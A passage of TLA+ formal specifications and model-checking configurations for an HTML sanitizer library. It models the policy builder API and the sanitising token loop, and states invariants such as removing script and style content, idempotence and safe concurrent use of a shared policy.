                          !.schemes = LowerSeq(@), !.scheme = Lower(@)]
CaseBlind == Shallow => \A i \in Inst : \A c \in Calls : Apply(c, pols[i]) = Apply(LowerCall(c), pols[i])

\* a switch reflects its most recent setting
SwitchField(m) == CASE m = "RequireNoFollowOnLinks" -> "nofollow"
                    [] m = "RequireNoFollowOnFullyQualifiedLinks" -> "nofollowFQ"
                    [] m = "RequireNoReferrerOnLinks" -> "noreferrer"
                    [] m = "RequireNoReferrerOnFullyQualifiedLinks" -> "noreferrerFQ"
                    [] m = "AddTargetBlankToFullyQualifiedLinks" -> "targetBlank"
                    [] m = "RequireCrossOriginAnonymous" -> "crossorigin"
                    [] m = "RequireParseableURLs" -> "parseable"
                    [] m = "AllowRelativeURLs" -> "relative"
                    [] m = "AddSpaceWhenStrippingTag" -> "addSpaces"
                    [] m = "AllowUnsafe" -> "unsafe"
                    [] OTHER -> ""
SwitchLastWrite ==
  LET l == LastCall IN
    /\ SwitchField(l.c.m) # "" => pols[l.i][SwitchField(l.c.m)] = l.c.b
    /\ l.c.m = "SkipElementsContent" => LowerSet(l.c.names) \subseteq pols[l.i].skip
    /\ l.c.m = "AllowElementsContent" => LowerSet(l.c.names) \cap pols[l.i].skip = {}
    /\ l.c.m = "AllowURLSchemes" => \A s \in LowerSet(l.c.schemes) : s \in DOMAIN pols[l.i].schemes /\ pols[l.i].schemes[s] = {}
    /\ l.c.m = "RequireSandboxOnIFrame" => pols[l.i].sandboxOn /\ pols[l.i].sandbox = SetOf(l.c.vals)

\* the shipped constructors return the documented constants, whatever was built before
UGCSafe == /\ \A n \in {"script", "style", "iframe", "object", "embed", "form", "input", "button", "select", "textarea",
                        "option", "base", "meta", "link"} : n \notin DOMAIN UGC.elAttrs
           /\ DOMAIN UGC.patAttrs = {}
           /\ \A n \in DOMAIN UGC.elAttrs : \A k \in DOMAIN UGC.elAttrs[n] : k # "style" /\ k \notin {"onclick", "onerror", "onload"}
           /\ "style" \notin DOMAIN UGC.globalAttrs
           /\ DOMAIN UGC.schemes = {"http", "https", "mailto"} /\ UGC.schemePats = {}
           /\ UGC.parseable /\ ~UGC.unsafe /\ ~UGC.comments /\ ~UGC.dataAttrs /\ DOMAIN UGC.globalStyles = {}
ASSUME UGCSafe
=============================================================================
