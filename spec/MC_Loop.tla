------------------------------- MODULE MC_Loop -------------------------------
(***************************************************************************)
(* Bounded machine for the token loop: a policy chosen from a family of    *)
(* recipes, then any tokenizer-realisable token sequence over the family's *)
(* alphabet.  Two uses:                                                    *)
(*   hist   no VIEW: every history up to MaxLen, each maximal one emitted  *)
(*          as a CASE line for replay into the real code;                  *)
(*   cover  VIEW = history-free state: the quotient graph, one CASE per    *)
(*          transition (a witness history for every edge).                 *)
(***************************************************************************)
EXTENDS BM_Call, IOUtils, TLCExt

FamFile   == IF "FAM" \in DOMAIN IOEnv THEN IOEnv.FAM ELSE "fam_loop.json"
FactsFile == IF "FACTS" \in DOMAIN IOEnv THEN IOEnv.FACTS ELSE "facts.json"
ASSUME TLCSet(43, JsonDeserialize(FamFile))
ASSUME TLCGet(43) = TLCGet(43)   \* deep-normalises the shared value before the workers start
ASSUME TLCSet(42, JsonDeserialize(FactsFile))
ASSUME TLCGet(42) = TLCGet(42)   \* deep-normalises the shared value before the workers start
Fam     == TLCGet(43)

CONSTANTS MaxLen, Mode        \* Mode \in {"hist", "cover", "check"}
MaxStack == 2
MinCnt == -1
MaxCnt == 2

VARIABLES rid,    \* which recipe
          hist    \* per input token: [st |-> loop state after it, n |-> Len(out) after it, b |-> branch taken]
vars == <<pol, st, inp, out, rid, hist>>

Recipes  == Fam.recipes
Alphabet == SetOf(Fam.tokens)

Init == \E r \in DOMAIN Recipes : rid = r /\ SInit(Build(Recipes[r])) /\ hist = <<>>

\* what html.Tokenizer can produce: after the start (or self-closing) tag of a raw-text element
\* only its text and then its own end tag follow; text tokens are maximal
Realisable(i, tok) ==
  LET n == Len(i)
      rawOpen(k) == k >= 1 /\ i[k].t \in {"start", "self"} /\ i[k].n \in RawEls
  IN  /\ rawOpen(n) => (tok.t = "text" \/ (tok.t = "end" /\ tok.n = i[n].n))
      /\ (n >= 2 /\ i[n].t = "text" /\ rawOpen(n - 1)) => (tok.t = "end" /\ tok.n = i[n-1].n)
      /\ (n >= 1 /\ i[n].t = "text") => tok.t # "text"

\* character data is opaque to the loop; each text / comment gets a position-dependent marker so
\* that the oracles can tell where every piece of the output came from
Mark(tok, k) == IF tok.t \in {"text", "comment"} THEN [tok EXCEPT !.d = tok.d \o ToString(k)] ELSE tok

\* a family may restrict the exploration to prefixes of well-nested documents (C08/C09 speak about
\* those only), which lets the same budget reach much longer documents
WN == "wellnested" \in DOMAIN Fam /\ Fam.wellnested

Next == /\ Len(inp) < MaxLen
        /\ \E tok \in Alphabet :
              /\ Realisable(inp, tok)
              /\ WN => LET o == Open(Append(inp, tok))     \* ... that can still be closed within MaxLen
                        IN  o # Err /\ Len(o) <= MaxLen - Len(inp) - 1
              /\ Feed(Mark(tok, Len(inp) + 1))
              /\ hist' = Append(hist, [st |-> st', n |-> Len(out'),
                                       b |-> Branch(pol, st, Mark(tok, Len(inp) + 1), After(pol, Mark(tok, Len(inp) + 1)))])
        /\ UNCHANGED rid

Spec == Init /\ [][Next]_vars

Case == [rid |-> rid, inp |-> inp, out |-> out, hist |-> hist]

\* hist mode: print every maximal history
\* (in a well-nested family also every complete document on the way)
EmitHist == (Mode = "hist" /\ (Len(inp) = MaxLen \/ (WN /\ inp # <<>> /\ WellNested(inp)))) => PrintT(<<"CASE", ToJson(Case)>>)

\* cover mode: print a witness for every transition of the quotient graph
View == <<rid, st>>
Bound == Len(st.stack) <= MaxStack /\ st.cnt >= MinCnt /\ st.cnt <= MaxCnt
EmitCover == Mode = "cover" =>
               PrintT(<<"CASE", ToJson([rid |-> rid, inp |-> inp', out |-> out', hist |-> hist'])>>)

\* ---- properties ----
Inv01   == I01(pol, out)
Inv05   == I05(pol, out) /\ I05body(pol, inp, out)
Inv02b  == I02bare(pol, out)
InvStk  == StackInv(pol, st)
Inv06   == I06(pol, inp, out)
Inv08   == I08(pol, inp, out)
Inv09   == I09(pol, inp, out)
Inv07   == I07(pol, inp, out)
Inv20   == I20(pol, out)

\* step forms (checked on every transition, so they also hold under the VIEW)
Fresh(o, o2) == SubSeq(o2, Len(o) + 1, Len(o2))
Step01  == [][I01(pol, Fresh(out, out')) /\ I05(pol, Fresh(out, out')) /\ I02bare(pol, Fresh(out, out'))]_vars
=============================================================================
