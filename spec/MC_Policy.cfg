SPECIFICATION Spec
CONSTANT MaxLen = 3
CONSTANT Emit = TRUE
CONSTANT AlgDepth = 1
INVARIANT EmitCase
INVARIANT Commute
INVARIANT Idempotent
INVARIANT CaseBlind
INVARIANT SwitchLastWrite
PROPERTY Independent
PROPERTY RulesAccumulate
CHECK_DEADLOCK FALSE
