------------------------------ MODULE BM_Props ------------------------------
(***************************************************************************)
(* Whole-history forms of the listed properties, stated over (policy,      *)
(* input token sequence, output token sequence).  They are evaluated by    *)
(* TLC in every state of the bounded machines (MC modules) and in every state *)
(* every validated trace.                                                  *)
(***************************************************************************)
EXTENDS BM_Sanitize

\* --- structure of token sequences ---------------------------------------
Err == <<"!ERR">>

\* the stack of open non-void elements after toks, or Err when an end tag does not match the
\* innermost open element (void elements have no end tag in a well-nested document)
RECURSIVE OpenFrom(_, _)
OpenFrom(stack, toks) ==
  IF toks = <<>> THEN stack
  ELSE LET t == Head(toks)
       IN  CASE t.t = "start" /\ ~Void(t.n) -> OpenFrom(Append(stack, t.n), Tail(toks))
             [] t.t = "end" -> IF stack # <<>> /\ Last(stack) = t.n /\ ~Void(t.n)
                               THEN OpenFrom(Front(stack), Tail(toks)) ELSE Err
             [] OTHER -> OpenFrom(stack, Tail(toks))
Open(toks) == OpenFrom(<<>>, toks)
WellNestedPrefix(toks) == Open(toks) # Err
WellNested(toks) == Open(toks) = <<>>

\* C09, balance form: sanitising a well-nested prefix never emits a stray end tag, and
\* whenever everything is closed in the input everything is closed in the output
I09(p, i, o) == WellNestedPrefix(i) => /\ WellNestedPrefix(o)
                                       /\ (Open(i) = <<>> => Open(o) = <<>>)

\* --- C08: a skipped region behaves exactly as if it had been deleted ----
\* a start tag opens a skipped region iff the element is not allowed, not pattern-matched,
\* in the skip set and not void (a policy-only condition)
Opener(p, t) == t.t = "start" /\ ~Blocked(p, t.n) /\ ~Known(p, t.n) /\ t.n \in p.skip /\ ~Void(t.n)

\* delete every region from an opener to its matching end tag; depth = <<>> outside a region,
\* otherwise the stack of elements open inside it (region root first)
RECURSIVE StripFrom(_, _, _)
StripFrom(p, depth, toks) ==
  IF toks = <<>> THEN <<>>
  ELSE LET t == Head(toks)
       IN  IF depth = <<>>
           THEN IF Opener(p, t) THEN StripFrom(p, <<t.n>>, Tail(toks))
                ELSE <<t>> \o StripFrom(p, depth, Tail(toks))
           ELSE CASE t.t = "start" /\ ~Void(t.n) -> StripFrom(p, Append(depth, t.n), Tail(toks))
                  [] t.t = "end" /\ Last(depth) = t.n ->
                        StripFrom(p, Front(depth), Tail(toks))
                  [] OTHER -> StripFrom(p, depth, Tail(toks))
Strip(p, toks) == StripFrom(p, <<>>, toks)

NoSpace(o) == SelectSeq(o, LAMBDA t : t.t # "space")

\* the output for a well-nested input equals the output for the input with skipped regions deleted
\* (spaces written for removed tags aside)
I08(p, i, o) == WellNestedPrefix(i) => NoSpace(o) = NoSpace(Run(p, Strip(p, i)))

\* --- C06: text preserved, exactly one space per removed tag -------------
RawTextAllowed(p) == \E n \in {"iframe", "noembed", "noframes", "noscript", "plaintext", "xmp",
                               "textarea", "title"} : Known(p, n)
NoSkipUnsafe(p, i) == \A k \in DOMAIN i : (i[k].t \in {"start", "end", "self"}) =>
                          /\ Norm(i[k].n) \notin UnsafeNames
                          /\ i[k].n \notin p.skip
                          /\ i[k].n \notin RawEls
\* text the output must carry: the input's character data, with one " " per removed tag when spaces are on
RECURSIVE Expect06(_, _, _)
Expect06(p, st, toks) ==
  IF toks = <<>> THEN <<>>
  ELSE LET t == Head(toks)
           e == Emitted(p, st, t)
           x == CASE t.t = "text" -> <<t.d>>
                  [] t.t \in {"start", "end", "self"} ->
                       IF e # <<>> /\ e[1].t \in {"start", "end", "self"} THEN <<>>
                       ELSE (IF p.addSpaces THEN <<" ">> ELSE <<>>)
                  [] OTHER -> <<>>
       IN  x \o Expect06(p, Step(p, st, t), Tail(toks))
Chars(o) == LET c == SelectSeq(o, LAMBDA t : t.t \in {"text", "space", "raw"})
            IN  [k \in DOMAIN c |-> IF c[k].t = "space" THEN " " ELSE c[k].d]
I06(p, i, o) == (~RawTextAllowed(p) /\ NoSkipUnsafe(p, i)) => Chars(o) = Expect06(p, St0, i)

\* --- C07: a conforming document passes through unchanged ---------------
TokConf(p, t) ==
  CASE t.t \in {"start", "self"} -> /\ ~Blocked(p, t.n) /\ Known(p, t.n) /\ t.n \notin RawEls
                                   /\ (t.a = <<>> => BareOK(p, t.n))
                                   /\ NoDupKeys(t.a) /\ \A k \in DOMAIN t.a : AttrConf(p, t.n, t.a[k])
    [] t.t = "end"     -> ~Blocked(p, t.n) /\ Known(p, t.n)
    [] t.t = "text"    -> TRUE
    [] t.t = "comment" -> p.comments
    [] OTHER           -> FALSE
Conforming(p, i) == WellNestedPrefix(i) /\ \A k \in DOMAIN i : TokConf(p, i[k])
SameModForced(p, t, o) == /\ t.t = o.t /\ t.n = o.n /\ t.d = o.d
                          /\ StripForced(p, t.n, t.a) = StripForced(p, o.n, o.a)
I07(p, i, o) == Conforming(p, i) => /\ Len(o) = Len(i)
                                    /\ \A k \in DOMAIN i : SameModForced(p, i[k], o[k])

\* --- C20: re-sanitising sanitised output is a no-op -----------------------
\* the output read back: adjacent character data merges
NoDelInsCite(o) == \A k \in DOMAIN o : (o[k].t \in {"start", "self"} /\ o[k].n \in {"del", "ins"}) =>
                                          ~\E j \in DOMAIN o[k].a : o[k].a[j].k = "cite"
I20(p, o) == (InClass20(p) \/ (p = UGC /\ NoDelInsCite(o))) => MergeText(Run(p, MergeText(o))) = MergeText(o)

\* --- C05 content clause: the body of script/style never appears ---------
\* (the element clause is I05 of BM_Sanitize).  In the token model a script/style body is the
\* text token that directly follows a script/style start or self-closing tag.
BodyIdx(i) == {k \in DOMAIN i : k > 1 /\ i[k].t = "text" /\ i[k-1].t \in {"start", "self"}
                                     /\ Norm(i[k-1].n) \in UnsafeNames}
\* every text token of the output comes from a non-body text token of the input, in order
RECURSIVE DropBodies(_, _)
DropBodies(i, k) == IF k > Len(i) THEN <<>>
                    ELSE (IF i[k].t = "text" /\ k \notin BodyIdx(i) THEN <<i[k].d>> ELSE <<>>) \o DropBodies(i, k + 1)
RECURSIVE IsSubseq(_, _)
IsSubseq(a, b) == IF a = <<>> THEN TRUE
                  ELSE IF b = <<>> THEN FALSE
                  ELSE IF Head(a) = Head(b) THEN IsSubseq(Tail(a), Tail(b))
                  ELSE IsSubseq(a, Tail(b))
TextsOf(o) == LET c == SelectSeq(o, LAMBDA t : t.t \in {"text", "raw"}) IN [k \in DOMAIN c |-> c[k].d]
I05body(p, i, o) == ~p.unsafe => IsSubseq(TextsOf(o), DropBodies(i, 1))
=============================================================================
