------------------------------ MODULE MC_Refine ------------------------------
(***************************************************************************)
(* Binds SanInd.tla (the typed abstract loop whose invariant Apalache      *)
(* proves inductive for EVERY policy over a nine-name universe and every   *)
(* loop state) to BM_Sanitize.tla (the specification that is replayed into *)
(* and trace-validated against the real code): for one recipe RID of the   *)
(* family fam_refine, every step of the concrete loop machine is a step of *)
(* SanInd under the refinement mapping below.  TLC checks the action       *)
(* property on every transition of the history-free quotient graph.        *)
(*                                                                         *)
(* With this, "IndInv is inductive" (Apalache, unbounded) says something   *)
(* about BM_Sanitize: what a step writes satisfies the per-step forms of   *)
(* I01, I05 and the bare clause of I02 whatever the loop state, i.e. for   *)
(* inputs of any length.                                                   *)
(***************************************************************************)
EXTENDS MC_Loop

CONSTANT RID
P == Build(Recipes[RID])     \* constant level: the instance below needs constants

AName == {"b", "a", "img", "frame", "cx", "blink", "object", "script", "style"}

\* --- the refinement mapping ----------------------------------------------
AbsEntry(x) == IF \E n \in AName : x = Marker(n)
               THEN [n |-> CHOOSE n \in AName : x = Marker(n), kept |-> TRUE]
               ELSE [n |-> x, kept |-> FALSE]
AbsStack(stk) == [i \in DOMAIN stk |-> AbsEntry(stk[i])]

AbsEm(e) == [t |-> e.t,
             n |-> IF e.t \in {"start", "end", "self"} THEN e.n ELSE "",
             a |-> IF e.t \in {"start", "self"} /\ e.a # <<>> THEN "keep" ELSE "none"]
\* what the last step wrote
LastEmitted == IF hist = <<>> THEN <<>>
               ELSE LET k    == Len(hist)
                        from == IF k = 1 THEN 0 ELSE hist[k - 1].n
                        w    == SubSeq(out, from + 1, Len(out))
                    IN  [i \in DOMAIN w |-> AbsEm(w[i])]

Abs == INSTANCE SanInd WITH
         ExplicitSet   <- {n \in AName : Explicit(P, n)},
         PatMatched    <- {n \in AName : PatsFor(P, n) # {}},
         BareSet       <- {n \in AName : BareOK(P, n)},
         SkipSet       <- {n \in AName : n \in P.skip},
         AllowUnsafe   <- P.unsafe,
         AddSpaces     <- P.addSpaces,
         AllowComments <- P.comments,
         skip <- st.skip, cnt <- st.cnt, stack <- AbsStack(st.stack), mrst <- st.mrst, mkept <- st.kept,
         emitted <- LastEmitted

absvars == <<st.skip, st.cnt, AbsStack(st.stack), st.mrst, st.kept, LastEmitted>>

SpecR == (Init /\ rid = RID) /\ [][Next]_vars
Refines == Abs!Init /\ [][Abs!Next]_absvars
\* the proved invariant, evaluated on the concrete machine through the mapping (it must hold: Apalache proved it inductive)
AbsInv == Abs!IndInv
=============================================================================
