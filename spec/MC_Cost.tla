------------------------------- MODULE MC_Cost -------------------------------
(***************************************************************************)
(* All verdict matrices up to (N, NF) exhaustively, plus adversarial        *)
(* families for larger n.  Every matrix is emitted as a CASE and replayed    *)
(* through the real css.recursiveCheck with synthetic handlers that answer   *)
(* from the matrix and count their invocations.                              *)
(***************************************************************************)
EXTENDS BM_Cost, Json

CONSTANTS N, NF, FamN, FamNF, Emit

VARIABLES n, nf, acc, fam      \* acc: the set of accepted triples (the matrix)
vars == <<n, nf, acc, fam>>

Mat(a, nn, ff) == [t \in Triples(nn, ff) |-> t \in a]

\* adversarial families (the shapes that make naive backtracking explode)
Family(name, nn, ff) ==
  CASE name = "singles-last-rejected" ->        \* every single token accepted by every handler, the last token by none
         {t \in Triples(nn, ff) : t[1] = t[2] /\ t[2] < nn}
    [] name = "blocks-last-rejected" ->         \* every block not ending at n accepted by handler 1
         {t \in Triples(nn, ff) : t[2] < nn /\ t[3] = 1}
    [] name = "odd-blocks" ->                   \* accepted iff the block length is odd, last token rejected
         {t \in Triples(nn, ff) : (t[2] - t[1]) % 2 = 0 /\ t[2] < nn}
    [] name = "all-accepted" -> Triples(nn, ff)
    [] name = "only-whole" -> {t \in Triples(nn, ff) : t[1] = 1 /\ t[2] = nn /\ t[3] = ff}
    [] name = "suffix-bad" ->                   \* everything accepted except blocks touching the last two tokens
         {t \in Triples(nn, ff) : t[2] < nn - 1}
FamNames == {"singles-last-rejected", "blocks-last-rejected", "odd-blocks", "all-accepted", "only-whole", "suffix-bad"}

Init == \/ /\ fam = "exhaustive"
           /\ n \in 1..N /\ nf \in 1..NF
           /\ acc \in SUBSET Triples(n, nf)
        \/ /\ fam \in FamNames
           /\ n \in 1..FamN /\ nf \in 1..FamNF
           /\ acc = Family(fam, n, nf)
Next == UNCHANGED vars
Spec == Init /\ [][Next]_vars

A == Mat(acc, n, nf)
InvCorrect == Correct(A, n, nf)
InvPolynomial == Polynomial(A, n, nf)
EmitCase == Emit => PrintT(<<"CASE", ToJson([fam |-> fam, n |-> n, nf |-> nf, acc |-> acc, ok |-> RC(A, n, nf).ok, calls |-> RC(A, n, nf).calls])>>)
=============================================================================
