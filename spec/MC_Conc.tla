------------------------------- MODULE MC_Conc -------------------------------
EXTENDS BM_Conc, IOUtils, TLCExt

FamFile   == IF "FAM" \in DOMAIN IOEnv THEN IOEnv.FAM ELSE "fam_conc.json"
FactsFile == IF "FACTS" \in DOMAIN IOEnv THEN IOEnv.FACTS ELSE "facts.json"
ASSUME TLCSet(43, JsonDeserialize(FamFile))
ASSUME TLCGet(43) = TLCGet(43)
ASSUME TLCSet(42, JsonDeserialize(FactsFile))
ASSUME TLCGet(42) = TLCGet(42)
Fam == TLCGet(43)

CONSTANT Emit
VARIABLES rid, dids
vars == <<pol, docs, cs, sched, writesToPolicy, rid, dids>>

Docs == Fam.docs

Init == \E r \in DOMAIN Fam.recipes : \E ds \in [Call -> DOMAIN Docs] :
          /\ rid = r /\ dids = ds
          /\ CInit(Build(Fam.recipes[r]), [c \in Call |-> Docs[ds[c]].toks])

Next == CNext /\ UNCHANGED <<rid, dids>>
Spec == Init /\ [][Next]_vars /\ \A c \in Call : WF_vars(StepCall(c) /\ UNCHANGED <<rid, dids>>)

\* no call can be starved by the others: with each call scheduled fairly, all of them finish
Termination == <>AllDone

EmitCase == (Emit /\ AllDone) =>
  PrintT(<<"CASE", ToJson([rid |-> rid, dids |-> dids, sched |-> sched, outs |-> [c \in Call |-> cs[c].out]])>>)
=============================================================================
