------------------------------- MODULE BM_Conc -------------------------------
(***************************************************************************)
(* K concurrent Sanitize* calls on one finished policy, interleaved at     *)
(* token granularity.  The policy is a shared variable; every step of the  *)
(* sharing phase leaves it unchanged (SharedIsReadOnly), so each call      *)
(* computes exactly what a sequential call computes (Deterministic).       *)
(*                                                                         *)
(* The one write the code can perform on a policy while sanitising is the  *)
(* lazy initialisation of a zero-value Policy{}: LazyInit.  The property's *)
(* precondition (built with NewPolicy / UGCPolicy / StrictPolicy,          *)
(* construction finished before sharing) makes it unreachable; the         *)
(* configuration MC_Conc_zero drops the precondition and TLC exhibits the  *)
(* conflicting write.                                                      *)
(***************************************************************************)
EXTENDS BM_Props

CONSTANT K
Call == 1..K

VARIABLES pol,     \* the shared policy
          docs,    \* [Call -> token sequence]
          cs,      \* [Call -> [pos, st, out]]
          sched,   \* the interleaving so far: sequence of call ids
          writesToPolicy   \* number of steps that modified the shared policy
cvars == <<pol, docs, cs, sched, writesToPolicy>>

CInit(p, ds) ==
  /\ pol = p /\ docs = ds
  /\ cs = [c \in Call |-> [pos |-> 0, st |-> St0, out |-> <<>>]]
  /\ sched = <<>> /\ writesToPolicy = 0

CallDone(c) == cs[c].pos = Len(docs[c])
AllDone == \A c \in Call : CallDone(c)

\* p.init() at the top of sanitize(): a write to the shared policy when it was never initialised
LazyInit(c) ==
  /\ ~pol.initialized /\ cs[c].pos = 0 /\ ~CallDone(c)
  /\ pol' = InitP(pol) /\ writesToPolicy' = writesToPolicy + 1
  /\ UNCHANGED <<docs, cs, sched>>

\* one token of call c
StepCall(c) ==
  /\ pol.initialized /\ ~CallDone(c)
  /\ LET tok == docs[c][cs[c].pos + 1]
     IN  cs' = [cs EXCEPT ![c] = [pos |-> @.pos + 1,
                                  st  |-> Step(pol, @.st, tok),
                                  out |-> @.out \o Emitted(pol, @.st, tok)]]
  /\ sched' = Append(sched, c)
  /\ UNCHANGED <<pol, docs, writesToPolicy>>

CNext == \E c \in Call : StepCall(c) \/ LazyInit(c)

\* ---- properties (C13) ----
SharedIsReadOnly == [][pol' = pol]_cvars
NoPolicyWrite == writesToPolicy = 0
\* every finished call returned exactly what a sequential call returns, whatever the interleaving
Deterministic == \A c \in Call : CallDone(c) => cs[c].out = Run(pol, docs[c])
\* a partial call is a prefix of the sequential result (no carry-over from other calls)
NoCarryOver == \A c \in Call : cs[c].out = Run(pol, SubSeq(docs[c], 1, cs[c].pos))
=============================================================================
