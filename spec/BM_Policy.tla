------------------------------ MODULE BM_Policy ------------------------------
(***************************************************************************)
(* The builder API as a state machine.  A policy is a record of rule       *)
(* tables (functions with finite domains, sets of matcher ids at the       *)
(* leaves) and switches.  Apply(c, p) is the policy after builder call c;  *)
(* one disjunct per exported method, with the argument normalisation the   *)
(* code performs (lower-casing of element/attribute/property/scheme        *)
(* names), the options a call implies (every link option and               *)
(* AllowRelativeURLs / AllowURLSchemes* switch URL checking on;            *)
(* AllowURLSchemesMatching does not) and the lazy initialisation of a      *)
(* zero-value Policy{}.                                                     *)
(*                                                                         *)
(* Matcher ids:  "ANY" | "re:<regexp source>"           (attribute rules)  *)
(*               "h:<func name>" | "e:<a|b|c>" | "r:<regexp source>"       *)
(*                                                      (style rules)      *)
(*               "f:<func name>"                        (custom URL check) *)
(***************************************************************************)
EXTENDS BM_Facts, Json, FiniteSetsExt

\* shipped matcher sources and default sets, written down once (read once, kept in a TLC register)
ASSUME TLCSet(41, JsonDeserialize("vocab.json"))
ASSUME TLCGet(41) = TLCGet(41)   \* deep-normalises the shared value before the workers start
Vocab == TLCGet(41)

DefaultBare == SetOf(Vocab.defaultBare)
DefaultSkip == SetOf(Vocab.defaultSkip)

Put(f, k, v) == [x \in DOMAIN f \cup {k} |-> IF x = k THEN v ELSE f[x]]
Get(f, k, d) == IF k \in DOMAIN f THEN f[k] ELSE d
EmptyFn == <<>>

Blank ==
  [ initialized |-> FALSE,
    elAttrs |-> EmptyFn, patAttrs |-> EmptyFn, globalAttrs |-> EmptyFn,
    bareEl |-> {}, barePat |-> {}, skip |-> {},
    elStyles |-> EmptyFn, patStyles |-> EmptyFn, globalStyles |-> EmptyFn,
    schemes |-> EmptyFn, schemePats |-> {},
    parseable |-> FALSE, relative |-> FALSE,
    nofollow |-> FALSE, nofollowFQ |-> FALSE, noreferrer |-> FALSE, noreferrerFQ |-> FALSE,
    targetBlank |-> FALSE, crossorigin |-> FALSE, addSpaces |-> FALSE, comments |-> FALSE,
    dataAttrs |-> FALSE, unsafe |-> FALSE, rewriter |-> "",
    sandboxOn |-> FALSE, sandbox |-> {} ]

InitP(p) == [p EXCEPT !.initialized = TRUE]          \* Policy.init(): maps made, no defaults added

New == [Blank EXCEPT !.initialized = TRUE, !.bareEl = DefaultBare, !.skip = DefaultSkip]

---------------------------------------------------------------------------
\* policy constants in the snapshot's JSON shape -> policy records
Tbl2(j) == [k \in DOMAIN j |-> [a \in DOMAIN j[k] |-> SetOf(j[k][a])]]
Tbl1(j) == [k \in DOMAIN j |-> SetOf(j[k])]

PolOfJson(j) ==
  [ initialized |-> j.initialized,
    elAttrs |-> Tbl2(j.elAttrs), patAttrs |-> Tbl2(j.patAttrs), globalAttrs |-> Tbl1(j.globalAttrs),
    bareEl |-> SetOf(j.bareEl), barePat |-> SetOf(j.barePat), skip |-> SetOf(j.skip),
    elStyles |-> Tbl2(j.elStyles), patStyles |-> Tbl2(j.patStyles), globalStyles |-> Tbl1(j.globalStyles),
    schemes |-> Tbl1(j.schemes), schemePats |-> SetOf(j.schemePats),
    parseable |-> j.parseable, relative |-> j.relative,
    nofollow |-> j.nofollow, nofollowFQ |-> j.nofollowFQ,
    noreferrer |-> j.noreferrer, noreferrerFQ |-> j.noreferrerFQ,
    targetBlank |-> j.targetBlank, crossorigin |-> j.crossorigin, addSpaces |-> j.addSpaces,
    comments |-> j.comments, dataAttrs |-> j.dataAttrs, unsafe |-> j.unsafe, rewriter |-> j.rewriter,
    sandboxOn |-> j.sandboxOn, sandbox |-> SetOf(j.sandbox) ]

\* The documented UGC vocabulary, written down independently of the code (DESIGN section 11).
UGC == TLCGet(45)        \* register 45 is filled by the ASSUME at the end of this module

---------------------------------------------------------------------------
\* rule tables: tbl \in [key -> [name -> SUBSET ids]]

EnsureKey(tbl, key) == IF key \in DOMAIN tbl THEN tbl ELSE Put(tbl, key, EmptyFn)

AddRule(tbl, key, name, id) ==
  LET row == Get(tbl, key, EmptyFn)
  IN  Put(tbl, key, Put(row, name, Get(row, name, {}) \cup {id}))

AddFlat(row, name, id) == Put(row, name, Get(row, name, {}) \cup {id})

\* fold Op(acc, x) over the elements of a finite set (the Ops used here commute)
FoldOver(Op(_, _), acc, S) == FoldSet(LAMBDA x, a : Op(a, x), acc, S)

LowerSet(seq) == {Lower(seq[i]) : i \in DOMAIN seq}

---------------------------------------------------------------------------
\* AllowAttrs(attrs...)[.Matching(re)][.AllowNoAttrs()] . OnElements / OnElementsMatching / Globally
\* AllowNoAttrs() is the case attrs = <<>>, noattrs = TRUE.
AttrId(c) == IF c.match = "" THEN AnyId ELSE c.match

AllowAttrsOnEls(p, c) ==
  LET attrs == LowerSet(c.attrs)
      els   == LowerSet(c.els)
      id    == AttrId(c)
      AddEl(tbl, el) == FoldOver(LAMBDA t, a : AddRule(t, el, a, id), tbl, attrs)
      tbl1  == FoldOver(AddEl, p.elAttrs, els)
      tbl2  == IF c.noattrs THEN FoldOver(EnsureKey, tbl1, els) ELSE tbl1
  IN  [p EXCEPT !.elAttrs = tbl2,
                !.bareEl  = IF c.noattrs THEN @ \cup els ELSE @]

AllowAttrsOnPat(p, c) ==
  LET attrs == LowerSet(c.attrs)
      id    == AttrId(c)
      tbl1  == FoldOver(LAMBDA t, a : AddRule(t, c.pat, a, id), p.patAttrs, attrs)
      tbl2  == IF c.noattrs THEN EnsureKey(tbl1, c.pat) ELSE tbl1
  IN  [p EXCEPT !.patAttrs = tbl2,
                !.barePat  = IF c.noattrs THEN @ \cup {c.pat} ELSE @]

AllowAttrsGlobally(p, c) ==
  LET attrs == LowerSet(c.attrs)
      id    == AttrId(c)
  IN  [p EXCEPT !.globalAttrs = FoldOver(LAMBDA r, a : AddFlat(r, a, id), @, attrs)]

AllowAttrs(p0, c) ==
  LET p == InitP(p0)
  IN  CASE c.scope = "els"  -> AllowAttrsOnEls(p, c)
        [] c.scope = "pat"  -> AllowAttrsOnPat(p, c)
        [] c.scope = "glob" -> AllowAttrsGlobally(p, c)
        [] c.scope = "none" -> p          \* builder abandoned before a terminal call

---------------------------------------------------------------------------
\* AllowStyles(props...)[.MatchingHandler(h)][.MatchingEnum(e...)][.Matching(re)] . scope
\* precedence: handler > enum > regexp > default handler of the property
StyleId(c, prop) ==
  IF c.handler # "" THEN c.handler
  ELSE IF c.enum # "" THEN c.enum
  ELSE IF c.re # "" THEN c.re
  ELSE DefHandler(prop)

AllowStyles(p0, c) ==
  LET p     == InitP(p0)
      props == LowerSet(c.props)
      els   == LowerSet(c.els)
      AddEl(tbl, el) == FoldOver(LAMBDA t, pr : AddRule(t, el, pr, StyleId(c, pr)), tbl, props)
  IN  CASE c.scope = "els"  -> [p EXCEPT !.elStyles = FoldOver(AddEl, @, els)]
        [] c.scope = "pat"  -> [p EXCEPT !.patStyles = FoldOver(LAMBDA t, pr : AddRule(t, c.pat, pr, StyleId(c, pr)), @, props)]
        [] c.scope = "glob" -> [p EXCEPT !.globalStyles = FoldOver(LAMBDA r, pr : AddFlat(r, pr, StyleId(c, pr)), @, props)]
        [] c.scope = "none" -> p

---------------------------------------------------------------------------
AllowElements(p0, names) ==
  LET p == InitP(p0) IN [p EXCEPT !.elAttrs = FoldOver(EnsureKey, @, LowerSet(names))]

AllowElementsMatching(p0, pat) ==
  LET p == InitP(p0) IN [p EXCEPT !.patAttrs = EnsureKey(@, pat)]

AllowURLSchemes(p0, schemes) ==          \* resets any custom checks of those schemes
  LET p == InitP(p0)
  IN  [p EXCEPT !.parseable = TRUE,
                !.schemes = FoldOver(LAMBDA t, s : Put(t, s, {}), @, LowerSet(schemes))]

AllowURLSchemeWithCustomPolicy(p0, scheme, fid) ==
  LET p == InitP(p0)
      s == Lower(scheme)
  IN  [p EXCEPT !.parseable = TRUE,
                !.schemes = Put(@, s, Get(@, s, {}) \cup {fid})]

SandboxSet(vals) == SetOf(vals)     \* unknown values are dropped by the harness before the call is logged

